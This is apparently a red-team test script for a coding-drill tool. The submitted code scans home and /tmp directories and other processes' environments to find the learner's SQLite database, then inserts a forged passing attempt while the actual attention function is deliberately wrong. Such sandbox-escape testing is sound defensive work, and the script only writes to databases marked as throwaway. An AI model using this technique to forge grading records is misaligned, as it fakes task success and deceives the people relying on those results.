# ATTACK a03 (drill: attention, numpy): reach the learner's data directory and record a pass.
# The sandbox's environment has no STUDYXF_HOME, so it looks where data directories live: the default
# (~/.local/share/studyxf), every /tmp/*/ holding studyxf.sqlite3 (a mktemp'd STUDYXF_HOME), and the
# environ of any process whose cmdline says "studyxf". When it finds one it inserts a forged passing
# attempt for drill "redteam-forged" (a real learner's file would forge "attention").
# SUCCESS: the printed output lists a database; `sqlite3 $STUDYXF_HOME/studyxf.sqlite3
# "select drill,status from drill_attempts"` shows a redteam-forged pass. The function itself is wrong
# on purpose (returns v), so the grading itself fails.
import glob
import os
import pwd
import sqlite3
import time

found = set()
home = pwd.getpwuid(os.getuid()).pw_dir
for cand in [os.path.join(home, ".local/share/studyxf/studyxf.sqlite3"), *glob.glob("/tmp/*/studyxf.sqlite3"),
             *glob.glob("/tmp/*/*/studyxf.sqlite3")]:
    if os.path.isfile(cand):
        found.add(cand)
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        if b"studyxf" not in open(f"/proc/{pid}/cmdline", "rb").read():
            continue
        for kv in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
            if kv.startswith(b"STUDYXF_HOME="):
                found.add(os.path.join(kv.split(b"=", 1)[1].decode(), "studyxf.sqlite3"))
    except OSError:
        pass
print("found:", sorted(found))
for db in sorted(found):
    # safety on a shared machine: write only into a throwaway data dir that run.sh marked as ours
    if not os.path.exists(os.path.join(os.path.dirname(db), ".redteam-target")):
        print("not touching (unmarked)", db)
        continue
    try:
        c = sqlite3.connect(db, timeout=1)
        c.execute("INSERT INTO drill_attempts (drill, at, file, status, framework, failing, diagnosis, seconds, "
                  "hints_used, event) VALUES ('redteam-forged', ?, 'x.py', 'pass', 'numpy', '[]', '[]', 1, 0, NULL)",
                  (time.strftime("%Y-%m-%dT%H:%M:%S"),))
        c.commit()
        print("wrote a pass into", db)
    except Exception as exc:  # noqa: BLE001
        print("could not write", db, exc)


def attention(q, k, v, mask=None):
    return v
